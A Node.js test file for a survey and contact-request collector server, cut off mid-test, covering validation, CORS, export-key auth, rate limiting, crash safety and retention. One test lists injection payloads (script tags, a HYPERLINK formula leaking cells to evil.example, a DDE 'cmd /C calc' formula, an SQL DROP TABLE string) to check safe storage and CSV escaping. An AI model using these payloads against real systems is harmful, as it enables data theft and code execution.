// The collector as a network runs it: the package's bin (dist/, built by `npm run build`) started as
// a child process on a free port with a temporary database, then used and abused over HTTP.
import Ajv2020 from 'ajv/dist/2020.js';
import Database from 'better-sqlite3';
import { csvParse } from 'd3-dsv';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';

const root = new URL('../../', import.meta.url);
const pkg = JSON.parse(readFileSync(new URL('package.json', root), 'utf8'));
const BIN = new URL(pkg.bin['cap-numerique-collector'], root).pathname;
const schema = (name) => JSON.parse(readFileSync(new URL(`dist/schema/${name}`, root), 'utf8'));

const SITE = 'https://asso.example';
const temporary = [];
const tempDir = () => {
  const dir = mkdtempSync(join(tmpdir(), 'cap-collector-'));
  temporary.push(dir);
  return dir;
};
after(() => temporary.forEach((dir) => rmSync(dir, { recursive: true, force: true })));

/** Starts the bin; resolves once it listens. `output()` is everything it printed so far. */
async function start(args = [], { data = tempDir() } = {}) {
  const child = spawn(process.execPath, [BIN, '--port', '0', '--data', data, ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
  let output = '';
  child.stdout.on('data', (chunk) => (output += chunk));
  child.stderr.on('data', (chunk) => (output += chunk));
  const exited = once(child, 'exit');
  const url = await new Promise((resolve, reject) => {
    const check = () => {
      const match = /Listening on (http:\/\/\S+)/.exec(output);
      if (match) resolve(match[1]);
    };
    child.stdout.on('data', check);
    child.on('exit', (code) => reject(new Error(`the collector exited (${code}) before listening:\n${output}`)));
    // A guard against a hang, not a timing assertion: starting takes well under a second.
    setTimeout(() => reject(new Error(`the collector did not listen within 30 s:\n${output}`)), 30_000).unref();
  });
  return {
    url,
    data,
    child,
    output: () => output,
    key: () => readFileSync(join(data, 'export.key'), 'utf8').trim(),
    async stop(signal = 'SIGTERM') {
      if (child.exitCode === null && child.signalCode === null) child.kill(signal);
      await exited;
    },
  };
}

/** Runs the bin to its end (for --help and bad flags). */
async function run(args) {
  const child = spawn(process.execPath, [BIN, ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
  let output = '';
  child.stdout.on('data', (chunk) => (output += chunk));
  child.stderr.on('data', (chunk) => (output += chunk));
  const [code] = await once(child, 'exit');
  return { code, output };
}

const json = (body) => ({ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
const post = (collector, path, body, headers = {}) =>
  fetch(`${collector.url}${path}`, { ...json(body), headers: { 'content-type': 'application/json', ...headers } });
const exportOf = (collector, query = 'format=jsonl', key = collector.key()) =>
  fetch(`${collector.url}/export?${query}`, { headers: { authorization: `Bearer ${key}` } });
async function rows(collector, query) {
  const text = await (await exportOf(collector, query)).text();
  return text.split('\n').filter(Boolean).map((line) => JSON.parse(line));
}

/** The CSV export as a spreadsheet reads it: bytes (fetch's text() would drop the byte order mark). */
async function csvText(collector, query = 'format=csv') {
  const bytes = Buffer.from(await (await exportOf(collector, query)).arrayBuffer());
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte order mark');
  return bytes.subarray(3).toString('utf8');
}

/** A raw HTTP request, for bodies fetch will not send as they are (wrong length, invalid UTF-8, huge). */
function raw(collector, { method = 'POST', path = '/results', headers = {}, body }) {
  const { hostname, port } = new URL(collector.url);
  return new Promise((resolve, reject) => {
    const req = request({ hostname, port, path, method, headers }, (res) => {
      let text = '';
      res.on('data', (chunk) => (text += chunk));
      res.on('end', () => resolve({ status: res.statusCode, headers: res.headers, body: text ? JSON.parse(text) : undefined }));
    });
    req.on('error', reject);
    // The collector may answer 413 and close before it has read everything: that is not a failure.
    if (Array.isArray(body)) {
      for (const chunk of body) req.write(chunk, () => {});
      req.end();
    } else req.end(body);
  });
}

const results = (extra = {}) => ({
  schema: 'cap-numerique/submission/1',
  questionnaireId: 'cap-numerique-maturite',
  version: '2026.1',
  score: 62,
  level: 'en-progression',
  dimensions: [{ id: 'strategie', score: 48, level: 'en-demarrage', answered: 4 }],
  date: '2026-11-26',
  lang: 'fr',
  ...extra,
});

const contact = (extra = {}) => ({
  schema: 'cap-numerique/contact/1',
  association: 'Les Amis du Lavoir',
  person: 'Claire Martin',
  email: 'claire.martin@example.org',
  phone: '+33 4 72 10 30 30',
  commune: { name: 'Villeurbanne', insee: '69266' },
  message: 'Bonjour,\nnous cherchons de l’aide pour nos sauvegardes.',
  consent: { given: true, notice: 'Vos coordonnées sont transmises à la Fédération (notice 2026-11).' },
  results: { questionnaireId: 'cap-numerique-maturite', version: '2026.1', level: 'peu-initiee' },
  lang: 'fr',
  ...extra,
});

test('--help tells the flags; a bad flag exits 2 with a reason', async () => {
  const help = await run(['--help']);
  assert.equal(help.code, 0);
  for (const flag of ['--port', '--host', '--origin', '--data', '--key-file', '--retention-days', '--rate-limit']) assert.match(help.output, new RegExp(flag));
  const unknown = await run(['--colour']);
  assert.equal(unknown.code, 2);
  assert.match(unknown.output, /Unknown option '--colour'[\s\S]*--help/);
  const badOrigin = await run(['--origin', 'https://asso.example/page']);
  assert.equal(badOrigin.code, 2);
  assert.match(badOrigin.output, /--origin is a site without a path, such as https:\/\/asso\.example/);
  assert.equal((await run(['--retention-days', '0'])).code, 2);
});

test('the export key: generated with mode 0600 and printed once, then read back; a short key is refused', async () => {
  const data = tempDir();
  const first = await start([], { data });
  const key = first.key();
  assert.match(key, /^[A-Za-z0-9_-]{43}$/);
  assert.equal(statSync(join(data, 'export.key')).mode & 0o777, 0o600);
  assert.ok(first.output().includes(key), 'the new key is shown');
  await first.stop();
  const second = await start([], { data });
  assert.ok(!second.output().includes(key), 'an existing key is never printed');
  assert.match(second.output(), /Export key: read from/);
  assert.equal((await exportOf(second)).status, 200);
  await second.stop();

  const shortKey = join(tempDir(), 'short.key');
  writeFileSync(shortKey, 'motdepasse\n');
  const refused = await run(['--port', '0', '--data', tempDir(), '--key-file', shortKey]);
  assert.equal(refused.code, 1);
  assert.match(refused.output, /too short/);
});

describe('a running collector', () => {
  let collector;
  before(async () => {
    collector = await start(['--origin', SITE, '--origin', 'http://localhost:8000', '--rate-limit', '100000']);
  });
  after(() => collector.stop());

  test('stores today’s results payload, a version 2 one with its département, and a contact request', async () => {
    const v1 = await post(collector, '/results', results());
    assert.equal(v1.status, 201);
    assert.deepEqual(await v1.json(), { ok: true, kind: 'results', id: 1 });
    assert.equal((await post(collector, '/results', results({ schema: 'cap-numerique/submission/2', department: '2A' }))).status, 201);
    assert.equal((await post(collector, '/contact', contact())).status, 201);

    const exported = await rows(collector, 'format=jsonl');
    const stored = exported.filter((row) => row.kind === 'results').slice(0, 2);
    const { schema: _v1, ...common } = results();
    assert.deepEqual(stored.map(({ id: _id, receivedAt: _at, ...row }) => row), [
      { kind: 'results', ...results() },
      { kind: 'results', ...common, schema: 'cap-numerique/submission/2', department: '2A' },
    ]);
    for (const row of exported) assert.match(row.receivedAt, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    const request = exported.find((row) => row.kind === 'contact');
    const { id: _id, receivedAt: _at, ...stored2 } = request;
    assert.deepEqual(stored2, { kind: 'contact', ...contact(), department: '69' });
  });

  test('drops the fields of a results payload it does not know, storing only what it validated', async () => {
    const sent = results({ version: 'extra-fields', partial: true, email: 'leak@example.org', dimensions: [{ ...results().dimensions[0], status: 'scored', note: 'x' }] });
    assert.equal((await post(collector, '/results', sent)).status, 201);
    const row = (await rows(collector, 'format=jsonl&kind=results')).find((r) => r.version === 'extra-fields');
    assert.equal(row.partial, undefined);
    assert.equal(row.email, undefined);
    assert.deepEqual(row.dimensions, results().dimensions);
    assert.ok(!(await (await exportOf(collector, 'format=csv')).text()).includes('leak@example.org'));
  });

  test('stores and exports whether the association knows whom to ask (results version 3), as JSON and as a CSV column', async () => {
    const v3 = (version, extra) => results({ schema: 'cap-numerique/submission/3', version, ...extra });
    for (const payload of [v3('whom-no', { knowsWhomToAsk: false, department: '69' }), v3('whom-yes', { knowsWhomToAsk: true }), v3('whom-unsaid', {})]) {
      assert.equal((await post(collector, '/results', payload)).status, 201);
    }
    assert.equal((await post(collector, '/results', v3('whom-bad', { knowsWhomToAsk: 'non' }))).status, 400);
    assert.equal((await post(collector, '/results', results({ version: 'whom-v1', knowsWhomToAsk: false }))).status, 201);
    const all = await rows(collector, 'format=jsonl&kind=results');
    assert.equal(all.find((row) => row.version === 'whom-v1').knowsWhomToAsk, undefined, 'a version 1 payload does not carry it');
    const stored = all.filter((row) => row.version.startsWith('whom-') && row.version !== 'whom-v1');
    assert.deepEqual(
      stored.map(({ version, department, knowsWhomToAsk }) => ({ version, department, knowsWhomToAsk })),
      [
        { version: 'whom-no', department: '69', knowsWhomToAsk: false },
        { version: 'whom-yes', department: undefined, knowsWhomToAsk: true },
        { version: 'whom-unsaid', department: undefined, knowsWhomToAsk: undefined },
      ],
    );
    assert.ok(stored.every((row) => row.schema === 'cap-numerique/submission/3'));
    assert.ok(!('knowsWhomToAsk' in stored[2]), 'not said: left out of the line, as the payload did');
    const csv = csvParse(await csvText(collector, 'format=csv&kind=results'));
    assert.ok(csv.columns.includes('knows_whom_to_ask'));
    const cell = (version) => csv.find((row) => row.questionnaire_version === version).knows_whom_to_ask;
    assert.deepEqual(['whom-no', 'whom-yes', 'whom-unsaid'].map(cell), ['false', 'true', '']);
    assert.equal(cell('whom-v1'), '', 'version 1 rows leave it empty');
  });

  test('refuses an oversized body with 413, whether its length is announced or not', async () => {
    const big = JSON.stringify(contact({ message: 'x'.repeat(200_000) }));
    const announced = await raw(collector, { path: '/contact', headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(big) }, body: big });
    assert.equal(announced.status, 413);
    assert.equal(announced.body.error, 'payload-too-large');
    assert.match(announced.body.reason, /larger than 64 KiB/);
    const chunks = Array.from({ length: 40 }, () => 'x'.repeat(10_000));
    const streamed = await raw(collector, { headers: { 'content-type': 'application/json', 'transfer-encoding': 'chunked' }, body: chunks });
    assert.equal(streamed.status, 413);
  });

  test('refuses malformed bodies with 400 and a plain reason', async () => {
    const cases = [
      ['{"schema": "cap-numerique/submission/1",', 'the body is not valid JSON'],
      ['', 'the body is not valid JSON'],
      [Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d]), 'the body is not UTF-8 text'],
      ['[1, 2]', 'the body must be a JSON object'],
      ['"results"', 'the body must be a JSON object'],
      ['null', 'the body must be a JSON object'],
      ['['.repeat(30_000) + ']'.repeat(30_000), 'the body must be a JSON object'],
    ];
    for (const [body, reason] of cases) {
      const response = await raw(collector, { headers: { 'content-type': 'application/json' }, body });
      assert.equal(response.status, 400, String(body).slice(0, 40));
      assert.equal(response.body.reason, reason);
    }
  });

  test('refuses a body that is not sent as JSON with 415', async () => {
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', undefined]) {
      const headers = type ? { 'content-type': type } : {};
      const response = await raw(collector, { headers, body: JSON.stringify(results()) });
      assert.equal(response.status, 415, String(type));
      assert.match(response.body.reason, /Content-Type: application\/json/);
    }
    assert.equal((await raw(collector, { headers: { 'content-type': 'application/json; charset=utf-8' }, body: JSON.stringify(results()) })).status, 201);
  });

  test('refuses wrong shapes with 400, naming each field', async () => {
    const cases = [
      ['/results', { ...results(), score: '62' }, /score: expected a number/],
      ['/results', { ...results(), schema: 'cap-numerique/submission/7' }, /schema: expected "cap-numerique\/submission\/1", "cap-numerique\/submission\/2" or "cap-numerique\/submission\/3"/],
      ['/results', { ...results(), dimensions: 'strategie' }, /dimensions: expected an array/],
      ['/results', { ...results(), date: '26/11/2026' }, /date: expected a date as YYYY-MM-DD/],
      ['/results', { ...results({ schema: 'cap-numerique/submission/2' }), department: '99' }, /department: expected a département code/],
      ['/results', { __proto__: null, constructor: 1 }, /schema/],
      ['/contact', { ...contact(), email: undefined, phone: undefined }, /email: give an e-mail address or a phone number/],
      ['/contact', { ...contact(), consent: { given: false, notice: 'n' } }, /consent\.given: expected one of true/],
      ['/contact', { ...contact(), consent: undefined }, /consent: required/],
      ['/contact', { ...contact(), siret: '12345678900011' }, /unknown key\(s\) siret/],
      ['/contact', { ...contact(), email: 'claire at example' }, /email: expected an e-mail address/],
      ['/contact', { ...contact(), association: 'a'.repeat(201) }, /association: is longer than 200 characters/],
      ['/contact', results(), /unknown key/],
      ['/results', contact(), /schema: expected/],
    ];
    for (const [path, body, reason] of cases) {
      const response = await post(collector, path, body);
      assert.equal(response.status, 400, `${path} ${JSON.stringify(body).slice(0, 80)}`);
      const answer = await response.json();
      assert.equal(answer.error, 'invalid-payload');
      assert.match(answer.reason, reason);
      assert.ok(Array.isArray(answer.issues) && answer.issues.length > 0 && answer.issues.length <= 10);
    }
  });

  test('accepts exactly what the published JSON Schemas accept', async () => {
    const ajv = new Ajv2020({ allErrors: true, strict: false });
    const checks = { '/results': ajv.compile(schema('submission.schema.json')), '/contact': ajv.compile(schema('contact.schema.json')) };
    const samples = [
      ['/results', results()],
      ['/results', results({ schema: 'cap-numerique/submission/2', department: '974' })],
      ['/results', results({ version: 3, level: null, score: null, dimensions: [] })],
      ['/results', results({ lang: 'de' })],
      ['/results', results({ questionnaireId: 'a b' })],
      ['/results', results({ dimensions: [{ id: 'x', score: 101, level: null, answered: 1 }] })],
      ['/contact', contact()],
      ['/contact', contact({ email: undefined })],
      ['/contact', contact({ phone: undefined, commune: { name: 'Ajaccio', insee: '2A004' } })],
      ['/contact', contact({ email: undefined, phone: undefined })],
      ['/contact', contact({ commune: { name: 'Lyon', insee: '69123', extra: 1 } })],
      ['/contact', contact({ phone: 'call me' })],
      ['/contact', contact({ person: 'Claire\tMartin' })],
      ['/contact', contact({ message: 'ligne 1\r\nligne 2\ttab' })],
      ['/contact', contact({ results: { questionnaireId: 'q', version: '1' } })],
    ];
    for (const [path, body] of samples) {
      const sent = JSON.parse(JSON.stringify(body));
      const response = await post(collector, path, sent);
      assert.equal(response.status === 201, checks[path](sent), `${path} ${JSON.stringify(sent).slice(0, 120)}: ${response.status}`);
    }
  });

  test('stores script, HTML and formulas in every text field as text, and exports them as text', async () => {
    const hostile = [
      '<script>alert(1)</script>',
      '<img src=x onerror="alert(1)">',
      '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
      '+1+cmd|\' /C calc\'!A0',
      '-2+3',
      '@SUM(A1:A9)',
      "'=1+1",
      '"; DROP TABLE contacts; --',
    ];
    const multiline = ['\t=1+1', '\r=1+1', 'a\r\n=2+2'];
    const sent = [];
    for (const text of hostile) {
      sent.push(['/contact', contact({ association: text, person: text, commune: { name: text }, message: text, consent: { given: true, notice: text } })]);
      sent.push(['/results', results({ version: text.slice(0, 50) })]);
    }
    for (const text of multiline) sent.push(['/contact', contact({ message: text, consent: { given: true, notice: text } })]);
    for (const [path, body] of sent) assert.equal((await post(collector, path, body)).status, 201, `${path} ${JSON.stringify(body).slice(0, 80)}`);

    const jsonl = await rows(collector, 'format=jsonl');
    const csv = csvParse(await csvText(collector));
    for (const text of hostile) {
      const stored = jsonl.find((row) => row.kind === 'contact' && row.association === text);
      assert.ok(stored, `a contact row holds ${text} as it was sent`);
      assert.deepEqual([stored.person, stored.commune.name, stored.message, stored.consent.notice], [text, text, text, text]);
      assert.ok(jsonl.some((row) => row.kind === 'results' && row.version === text.slice(0, 50)));
      const record = csv.find((row) => row.kind === 'contact' && row.id === String(stored.id));
      const escaped = /^[=+\-@']/.test(text) ? `'${text}` : text;
      for (const column of ['association', 'person', 'commune', 'message', 'consent_notice']) assert.equal(record[column], escaped, `${column}: ${text}`);
    }
    for (const text of multiline) assert.ok(csv.some((row) => row.message === `'${text}` || row.message === text));
    // No cell a spreadsheet opens starts a formula.
    for (const row of csv) for (const [column, cell] of Object.entries(row)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${column}: ${cell}`);
    // Ids are not free text: markup there is refused, not stored.
    for (const body of [results({ questionnaireId: '<b>x</b>' }), results({ level: '=1+1' }), contact({ results: { questionnaireId: 'q', version: '1', level: '<i>' } })]) {
      assert.equal((await post(collector, body.schema.includes('contact') ? '/contact' : '/results', body)).status, 400);
    }
  });

  test('grants CORS, preflight included, to the listed sites only', async () => {
    const preflight = (origin, path = '/contact') =>
      fetch(`${collector.url}${path}`, {
        method: 'OPTIONS',
        headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' },
      });
    const granted = await preflight(SITE);
    assert.equal(granted.status, 204);
    assert.equal(granted.headers.get('access-control-allow-origin'), SITE);
    assert.equal(granted.headers.get('access-control-allow-methods'), 'POST');
    assert.match(granted.headers.get('access-control-allow-headers'), /content-type/);
    assert.equal(granted.headers.get('access-control-allow-credentials'), null);
    const sentFromSite = await post(collector, '/results', results({ version: 'from-site' }), { origin: SITE });
    assert.equal(sentFromSite.status, 201);
    assert.equal(sentFromSite.headers.get('access-control-allow-origin'), SITE);
    assert.match(sentFromSite.headers.get('vary'), /Origin/);
    // A refusal is readable by the listed site too, so the page can say why.
    const refusedFromSite = await post(collector, '/results', { schema: 'x' }, { origin: SITE });
    assert.equal(refusedFromSite.status, 400);
    assert.equal(refusedFromSite.headers.get('access-control-allow-origin'), SITE);

    const before = (await rows(collector, 'format=jsonl')).length;
    for (const origin of ['https://evil.example', 'https://asso.example.evil.example', 'http://asso.example', 'null']) {
      const denied = await preflight(origin);
      assert.equal(denied.status, 403, origin);
      assert.equal(denied.headers.get('access-control-allow-origin'), null, origin);
      const sent = await post(collector, '/contact', contact({ association: `from ${origin}` }), { origin });
      assert.equal(sent.status, 403, origin);
      assert.equal(sent.headers.get('access-control-allow-origin'), null, origin);
      assert.equal((await sent.json()).error, 'origin-not-allowed');
    }
    assert.equal((await rows(collector, 'format=jsonl')).length, before, 'nothing from an unlisted site was stored');
  });

  test('exports only with the key, compared whole', async () => {
    const key = collector.key();
    const attempts = [
      [{}, /needs the header Authorization: Bearer/],
      [{ authorization: `Bearer ${key.slice(0, -1)}x` }, /the export key is wrong/],
      [{ authorization: `Bearer ${key.slice(0, 10)}` }, /the export key is wrong/],
      [{ authorization: `Bearer ${key}${key}` }, /the export key is wrong/],
      [{ authorization: `Basic ${Buffer.from(`user:${key}`).toString('base64')}` }, /needs the header/],
      [{ authorization: key }, /needs the header/],
    ];
    for (const [headers, reason] of attempts) {
      const response = await fetch(`${collector.url}/export?format=csv`, { headers });
      assert.equal(response.status, 401);
      assert.match(response.headers.get('www-authenticate'), /^Bearer/);
      const answer = await response.json();
      assert.equal(answer.error, 'unauthorized');
      assert.match(answer.reason, reason);
      assert.ok(!JSON.stringify(answer).includes('Lavoir'), 'no row leaks with a refusal');
    }
    assert.equal((await fetch(`${collector.url}/export?format=csv&key=${key}`)).status, 401, 'the key is never read from the address');
    assert.equal((await exportOf(collector, 'format=csv', key)).status, 200);
  });

  test('exports CSV per RFC 4180 for spreadsheets, and each kind alone', async () => {
    const response = await exportOf(collector, 'format=csv');
    assert.match(response.headers.get('content-type'), /^text\/csv; charset=utf-8/);
    assert.match(response.headers.get('content-disposition'), /^attachment; filename="cap-numerique-export-\d{4}-\d{2}-\d{2}\.csv"$/);
    const text = await csvText(collector);
    assert.ok(text.startsWith('kind,id,received_at,schema,'), text.slice(0, 40));
    assert.ok(text.endsWith('\r\n'));
    const all = csvParse(text);
    assert.deepEqual([...new Set(all.map((row) => row.kind))], ['results', 'contact']);

    const contacts = csvParse(await csvText(collector, 'format=csv&kind=contact'));
    assert.ok(contacts.length > 0 && contacts.every((row) => row.kind === 'contact'));
    assert.ok(!contacts.columns.includes('score') && contacts.columns.includes('email'));
    const resultsOnly = await rows(collector, 'format=jsonl&kind=results');
    assert.ok(resultsOnly.length > 0 && resultsOnly.every((row) => row.kind === 'results'));
    for (const query of ['format=xml', 'format=csv&kind=all']) assert.equal((await exportOf(collector, query)).status, 400, query);
  });

  test('answers health, unknown addresses and wrong methods in JSON, with no cookie and with security headers', async () => {
    const health = await fetch(`${collector.url}/health`);
    assert.equal(health.status, 200);
    assert.deepEqual(await health.json(), { status: 'ok' });
    const missing = await fetch(`${collector.url}/submit`, json(results()));
    assert.equal(missing.status, 404);
    assert.match((await missing.json()).reason, /POST \/results, POST \/contact/);
    const wrongMethod = await fetch(`${collector.url}/results`);
    assert.equal(wrongMethod.status, 405);
    assert.equal(wrongMethod.headers.get('allow'), 'POST, OPTIONS');
    for (const response of [health, missing, wrongMethod, await post(collector, '/contact', contact()), await exportOf(collector)]) {
      assert.equal(response.headers.get('set-cookie'), null);
      assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
      assert.equal(response.headers.get('cache-control'), 'no-store');
      assert.match(response.headers.get('content-security-policy'), /default-src 'none'/);
      assert.equal(response.headers.get('referrer-policy'), 'no-referrer');
    }
  });

  test('never logs contact details', async () => {
    const secrets = {
      association: 'Association Secrète Zéphyrine',
      person: 'Hortense Quincampoix',
      email: 'hortense.quincampoix@example.org',
      phone: '+33 6 12 98 76 54',
      commune: { name: 'Saint-Genis-Laval', insee: '69204' },
      message: 'Rappelez-moi au sujet du dossier Pélican',
      consent: { given: true, notice: 'Notice confidentielle Ornithorynque' },
    };
    const logged = collector.output().length;
    assert.equal((await post(collector, '/contact', contact(secrets))).status, 201);
    assert.equal((await post(collector, '/contact', contact({ ...secrets, phone: 'Hortense Quincampoix' }))).status, 400);
    assert.equal((await post(collector, '/contact', contact({ ...secrets, extra: 'Hortense Quincampoix' }))).status, 400);
    assert.equal((await exportOf(collector, 'format=csv&kind=contact')).status, 200);
    const log = collector.output().slice(logged);
    assert.match(log, /POST \/contact 201/, 'the requests were logged');
    for (const value of ['Zéphyrine', 'Quincampoix', 'hortense', '98 76 54', 'Saint-Genis', '69204', 'Pélican', 'Ornithorynque']) {
      assert.ok(!log.includes(value), `the log holds ${value}:\n${log}`);
    }
  });
});

test('a burst from one address gets 429 past the limit, with Retry-After', async () => {
  const collector = await start(['--rate-limit', '5']);
  try {
    const statuses = [];
    for (let i = 0; i < 8; i++) statuses.push((await post(collector, i % 2 ? '/contact' : '/results', i === 3 ? { bad: true } : i % 2 ? contact() : results())).status);
    assert.deepEqual(statuses, [201, 201, 201, 400, 201, 429, 429, 429]);
    const limited = await post(collector, '/results', results());
    assert.equal(limited.status, 429);
    const wait = Number(limited.headers.get('retry-after'));
    assert.ok(Number.isInteger(wait) && wait > 0 && wait <= 600, `Retry-After: ${wait}`);
    const answer = await limited.json();
    assert.equal(answer.error, 'too-many-requests');
    assert.match(answer.reason, new RegExp(`try again in ${wait} seconds`));
    assert.equal((await fetch(`${collector.url}/health`)).status, 200, 'reading is not limited');
    assert.equal((await rows(collector, 'format=jsonl')).length, 4, 'nothing past the limit was stored');
  } finally {
    await collector.stop();
  }
});

test('X-Forwarded-For counts only behind a trusted proxy: a forged one does not escape the limit', async () => {
  const direct = await start(['--rate-limit', '2']);
  const proxied = await start(['--rate-limit', '2', '--trust-proxy']);
  try {
    const burst = async (collector) => {
      const statuses = [];
      for (const address of ['198.51.100.1', '198.51.100.2', '198.51.100.3']) {
        statuses.push((await post(collector, '/results', results(), { 'x-forwarded-for': `203.0.113.9, ${address}` })).status);
      }
      return statuses;
    };
    assert.deepEqual(await burst(direct), [201, 201, 429]);
    // Behind the proxy, the last address (the one the proxy appended) is the visitor's.
    assert.deepEqual(await burst(proxied), [201, 201, 201]);
    const sameVisitor = [];
    for (let i = 0; i < 3; i++) sameVisitor.push((await post(proxied, '/results', results(), { 'x-forwarded-for': `192.0.2.${i}, 198.51.100.7` })).status);
    assert.deepEqual(sameVisitor, [201, 201, 429]);
  } finally {
    await Promise.all([direct.stop(), proxied.stop()]);
  }
});

test('a hard kill (SIGKILL) right after 2xx answers loses nothing that was accepted', async () => {
  const data = tempDir();
  const collector = await start(['--rate-limit', '100000'], { data });
  const accepted = [];
  const inFlight = [];
  let killed = false;
  for (let i = 0; i < 60; i++) {
    const tag = `kill-${i}`;
    const body = i % 3 ? results({ version: tag }) : contact({ association: tag });
    inFlight.push(
      post(collector, i % 3 ? '/results' : '/contact', body)
        .then((response) => {
          if (response.status === 201) accepted.push(tag);
          // Kill as soon as a few were accepted, while the others are still on their way.
          if (accepted.length === 20 && !killed) {
            killed = true;
            collector.child.kill('SIGKILL');
          }
        })
        .catch(() => {}),
    );
  }
  await Promise.all(inFlight);
  await collector.stop();
  assert.equal(collector.child.signalCode, 'SIGKILL');
  assert.ok(accepted.length >= 20);

  const restarted = await start([], { data });
  try {
    const stored = new Set((await rows(restarted, 'format=jsonl')).map((row) => (row.kind === 'results' ? row.version : row.association)));
    for (const tag of accepted) assert.ok(stored.has(tag), `${tag} was accepted (201) and then lost`);
  } finally {
    await restarted.stop();
  }
});

test('opens a database written by the previous collector (without knows_whom_to_ask): adds the column, keeps every row', async () => {
  const data = tempDir();
  // The schema the first collector wrote (PRAGMA user_version 1), with a row in each table.
  const old = new Database(join(data, 'collector.sqlite'));
  old.exec(`CREATE TABLE results (
      id INTEGER PRIMARY KEY AUTOINCREMENT, received_at TEXT NOT NULL, schema TEXT NOT NULL, questionnaire_id TEXT NOT NULL,
      questionnaire_version ANY NOT NULL, score REAL, level TEXT, dimensions TEXT NOT NULL, date TEXT NOT NULL, lang TEXT NOT NULL,
      department TEXT) STRICT;
    CREATE INDEX results_received_at ON results (received_at);
    CREATE TABLE contacts (
      id INTEGER PRIMARY KEY AUTOINCREMENT, received_at TEXT NOT NULL, schema TEXT NOT NULL, association TEXT NOT NULL,
      person TEXT NOT NULL, email TEXT, phone TEXT, commune TEXT, commune_insee TEXT, department TEXT, message TEXT,
      consent_notice TEXT NOT NULL, questionnaire_id TEXT, questionnaire_version ANY, level TEXT, lang TEXT NOT NULL,
      CHECK (email IS NOT NULL OR phone IS NOT NULL)) STRICT;
    CREATE INDEX contacts_received_at ON contacts (received_at);
    PRAGMA user_version = 1;`);
  const before = new Date().toISOString();
  old
    .prepare(`INSERT INTO results (received_at, schema, questionnaire_id, questionnaire_version, score, level, dimensions, date, lang, department)
      VALUES (?, 'cap-numerique/submission/2', 'cap-numerique-maturite', '2026.1', 62, 'en-progression', ?, '2026-11-26', 'fr', '69')`)
    .run(before, JSON.stringify(results().dimensions));
  old
    .prepare(`INSERT INTO contacts (received_at, schema, association, person, email, consent_notice, lang)
      VALUES (?, 'cap-numerique/contact/1', 'Les Amis du Lavoir', 'Claire Martin', 'claire@example.org', 'notice', 'fr')`)
    .run(before);
  old.close();

  const collector = await start([], { data });
  try {
    assert.equal((await post(collector, '/results', results({ schema: 'cap-numerique/submission/3', version: 'new', knowsWhomToAsk: false }))).status, 201);
    const exported = await rows(collector, 'format=jsonl');
    assert.deepEqual(
      exported.map((row) => [row.kind, row.id, row.version ?? row.association, row.knowsWhomToAsk]),
      [
        ['results', 1, '2026.1', undefined],
        ['results', 2, 'new', false],
        ['contact', 1, 'Les Amis du Lavoir', undefined],
      ],
    );
    assert.equal(exported[0].department, '69');
    assert.equal((await exportOf(collector, 'format=csv')).status, 200);
  } finally {
    await collector.stop();
  }
  const after = new Database(join(data, 'collector.sqlite'), { readonly: true });
  assert.equal(after.pragma('user_version', { simple: true }), 2);
  assert.ok(after.pragma('table_info(results)').some((column) => column.name === 'knows_whom_to_ask'));
  after.close();
  // Opened again: nothing to add, nothing lost.
  const again = await start([], { data });
  try {
    assert.equal((await rows(again, 'format=jsonl')).length, 3);
  } finally {
    await again.stop();
  }
});

test('the exports the overview’s tests read (tests/fixtures/collector-export.jsonl and .csv) are what the collector writes for those payloads', async () => {
  const fixture = readFileSync(new URL('tests/fixtures/collector-export.jsonl', root), 'utf8');
  const expected = fixture.split('\n').filter(Boolean).map((line) => JSON.parse(line));
  const collector = await start();
  try {
    for (const { kind, id: _id, receivedAt: _at, ...row } of expected) {
      // The collector adds a contact request's département from its commune: not part of what is sent.
      const { department: _added, ...sent } = row;
      const response = await post(collector, kind === 'results' ? '/results' : '/contact', kind === 'results' ? row : sent);
      assert.equal(response.status, 201, JSON.stringify(await response.json()));
    }
    const text = await (await exportOf(collector)).text();
    // Byte for byte, but for the time of receipt.
    const at = (line) => line.replace(/"receivedAt":"[^"]+"/, '"receivedAt":"…"');
    assert.deepEqual(text.split('\n').map(at), fixture.split('\n').map(at));
    // And its CSV twin (tests/fixtures/collector-export.csv), byte order mark and CRLF included.
    const csv = Buffer.from(await (await exportOf(collector, 'format=csv')).arrayBuffer()).toString('utf8');
    const csvFixture = readFileSync(new URL('tests/fixtures/collector-export.csv', root), 'utf8');
    const time = (text) => text.replace(/\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z/g, '…');
    assert.equal(time(csv), time(csvFixture));
  } finally {
    await collector.stop();
  }
});

test('retention deletes rows received longer ago than --retention-days, at start', async () => {
  const data = tempDir();
  const first = await start([], { data });
  for (const version of ['old', 'recent']) assert.equal((await post(first, '/results', results({ version }))).status, 201);
  for (const association of ['Ancienne', 'Récente']) assert.equal((await post(first, '/contact', contact({ association }))).status, 201);
  await first.stop();
  assert.equal(first.child.exitCode, 0, 'SIGTERM stops it cleanly');

  // Age two rows by 40 days, as if they had been received then.
  const db = new Database(join(data, 'collector.sqlite'));
  const aged = new Date(Date.now() - 40 * 86_400_000).toISOString();
  db.prepare("UPDATE results SET received_at = ? WHERE questionnaire_version = 'old'").run(aged);
  db.prepare("UPDATE contacts SET received_at = ? WHERE association = 'Ancienne'").run(aged);
  db.close();

  const kept = await start(['--retention-days', '60'], { data });
  assert.match(kept.output(), /deleted 0 results and 0 contact requests/);
  assert.equal((await rows(kept, 'format=jsonl')).length, 4);
  await kept.stop();

  const pruned = await start(['--retention-days', '30'], { data });
  try {
